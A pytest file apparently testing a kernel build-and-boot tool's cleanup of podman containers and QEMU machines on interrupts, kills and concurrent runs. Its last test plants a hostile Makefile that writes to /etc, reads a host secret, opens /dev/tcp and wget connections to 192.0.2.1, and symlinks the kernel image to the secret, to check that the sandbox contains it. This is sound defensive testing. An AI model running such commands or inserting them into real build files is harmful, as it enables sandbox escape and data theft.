"""Recipes that are stopped, killed, run twice at once, or have a hostile tree: real containers and
machines, and a tree of ours whose Makefile does what the test asks of it."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from patchkit.host.process import run
from patchkit.kbuild.container import Engine, find_engine, has_image
from patchkit.kbuild.room import Contained
from patchkit.kbuild.toolchain import TOOLCHAINS

pytestmark = [pytest.mark.container, pytest.mark.qemu]

MAKEFILE = """\
VERSION = 2
oldconfig:
\ttouch .config
dep:
\ttrue
bzImage:
\tmkdir -p arch/i386/boot
\techo no kernel > arch/i386/boot/bzImage
\techo 'c0100000 T _stext' > System.map
"""
RECIPE = """\
[matrix]
trees = ["linux"]
configs = ["tiny"]
[build]
probes = false
[audit]
paths = ["drivers"]
fail_on = "never"
[boot]
tests = ["smoke"]
accel = "tcg"
timeout = 300
"""
DRIVER = "static void f(struct page *page)\n{\n\tmem_map_reserve(page);\n}\n"


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Path]:
    missing = [one for one in ("podman", "qemu-system-i386", "xorriso") if not shutil.which(one)]
    if missing:
        pytest.skip(f"not installed: {', '.join(missing)}")
    if not has_image(find_engine("podman"), TOOLCHAINS["debian-gcc"].tag):
        pytest.skip("no image; say 'patchkit toolchains --make debian-gcc'")
    for name, text in (
        ("Makefile", MAKEFILE), ("Rules.make", "# 2.4\n"), ("drivers/one.c", DRIVER),
        (".config", ""),
    ):  # fmt: skip
        at = tmp_path / "linux" / name
        at.parent.mkdir(parents=True, exist_ok=True)
        at.write_text(text)
    (tmp_path / "r.toml").write_text(RECIPE)
    (tmp_path / "tmp").mkdir()
    yield tmp_path
    for one in containers(tmp_path):
        run(("podman", "rm", "--force", "--time", "0", one), timeout=60)
    assert (tmp_path / "linux/Makefile").is_file()


def makefile(place: Path, old: str, new: str) -> None:
    (place / "linux/Makefile").write_text(MAKEFILE.replace(old, new))


def ci(place: Path, *, output: str = "out") -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "patchkit", "ci", str(place / "r.toml"), "-o", str(place / output)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={
            **os.environ,
            "PATCHKIT_CACHE": str(place / "cache"),
            "TMPDIR": str(place / "tmp"),
        },
    )


def containers(place: Path) -> list[str]:
    slots = place.glob("cache/kbuild/*")
    names = [Contained(Engine("", (), 0, 0), "", slot, 0, slot).name for slot in slots]
    filters = (f"--filter=name={name}" for name in names)
    return run(("podman", "ps", "--quiet", *filters)).stdout.decode().split() if names else []


def machines(place: Path) -> list[int]:
    found = []
    for at in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = at.read_bytes()
        except OSError:
            continue
        if b"qemu-system" in line and bytes(place) in line:
            found.append(int(at.parent.name))
    return found


def until(holds: Callable[[], object]) -> None:
    for _ in range(900):
        if holds():
            return
        time.sleep(0.1)
    pytest.fail("it never came to that")


def kept(place: Path) -> set[str]:
    return {at.stem for at in place.glob("out/*/*.json")}


def slow_audit(place: Path) -> None:
    for number in range(20000):
        (place / f"linux/drivers/{number}.c").write_text(DRIVER)


def test_ctrl_c_in_the_audit_keeps_what_was_done_and_nothing_else(place: Path) -> None:
    slow_audit(place)
    running = ci(place)
    until(lambda: kept(place) == {"fetch"})
    running.send_signal(signal.SIGINT)
    said, _ = running.communicate(timeout=120)
    assert running.returncode == 130, said
    assert kept(place) == {"fetch"}


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGTERM])
def test_ctrl_c_in_the_build_leaves_no_container(place: Path, how: signal.Signals) -> None:
    makefile(place, "\ttrue\n", "\tsleep 900\n")
    running = ci(place)
    until(lambda: "audit" in kept(place) and containers(place))
    running.send_signal(how)
    said, _ = running.communicate(timeout=120)
    assert running.returncode == (130 if how is signal.SIGINT else 143), said
    assert containers(place) == []
    assert list((place / "tmp").iterdir()) == []


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL])
def test_a_stop_in_the_boot_leaves_no_machine(place: Path, how: signal.Signals) -> None:
    running = ci(place)
    until(lambda: machines(place))
    running.send_signal(how)
    running.communicate(timeout=120)
    assert running.returncode == (130 if how is signal.SIGINT else -signal.SIGKILL)
    until(lambda: not machines(place))
    assert kept(place) == {"fetch", "audit"}


def test_after_a_kill_the_next_run_ends_the_container_and_goes_on(place: Path) -> None:
    makefile(place, "\ttrue\n", "\ttouch first; sleep 900\n")
    first = ci(place)
    until(lambda: list(place.glob("cache/kbuild/*/tree/first")))
    first.kill()
    first.communicate(timeout=60)
    (left,) = containers(place)
    makefile(place, "\ttrue\n", "\ttouch second; sleep 900\n")
    second = ci(place)
    until(lambda: list(place.glob("cache/kbuild/*/tree/second")))
    (working,) = containers(place)
    assert working != left
    second.send_signal(signal.SIGINT)
    second.communicate(timeout=120)
    assert containers(place) == []


def test_a_container_that_is_killed_is_named_and_the_next_run_goes_on(place: Path) -> None:
    makefile(place, "\ttrue\n", "\ttouch first; sleep 900\n")
    running = ci(place)
    until(lambda: list(place.glob("cache/kbuild/*/tree/first")))
    (name,) = containers(place)
    run(("podman", "kill", name))
    said, _ = running.communicate(timeout=120)
    assert running.returncode == 2, said
    assert "dep: the container was killed (podman exit 137)" in said
    makefile(place, "", "")
    (place / "r.toml").write_text(RECIPE.partition("[boot]")[0])
    again = ci(place)
    said, _ = again.communicate(timeout=120)
    assert again.returncode == 0, said


def built(place: Path, output: str) -> list[str]:
    at = next((place / output).glob("*/kernel/metadata.json"))
    found = json.loads(at.read_bytes())["sha256"]
    return [found["bzImage"], found["System.map"], found["ramdisk.gz"]]


def test_two_runs_at_once_on_one_tree_do_not_mix(place: Path) -> None:
    (place / "r.toml").write_text(RECIPE.partition("[boot]")[0])
    both = [ci(place, output=name) for name in ("one", "two")]
    for running in both:
        said, _ = running.communicate(timeout=240)
        assert running.returncode == 0, said
    assert built(place, "one") == built(place, "two")


HOSTILE = """\
\t-touch {host}/escaped /etc/escaped /opt/bin/gcc
\t-cat {host}/secret
\t-(echo > /dev/tcp/192.0.2.1/80) 2>&1; wget -T 5 http://192.0.2.1/; cat /proc/net/route
\trm -f arch/i386/boot/bzImage; mkdir -p arch/i386/boot; ln -s {host}/secret arch/i386/boot/bzImage
"""


def test_a_hostile_makefile_reaches_nothing_and_is_told_so(place: Path) -> None:
    (place / "secret").write_text("not for a kernel")
    makefile(place, "\techo no kernel > arch/i386/boot/bzImage\n", HOSTILE.format(host=place))
    running = ci(place)
    said, _ = running.communicate(timeout=240)
    assert running.returncode == 2, said
    assert "arch/i386/boot/bzImage: the build made it a way out of its tree" in said
    assert not (place / "escaped").exists()
    for at in place.glob("out/**/*"):
        assert not (at.is_file() and b"not for a kernel" in at.read_bytes()), at
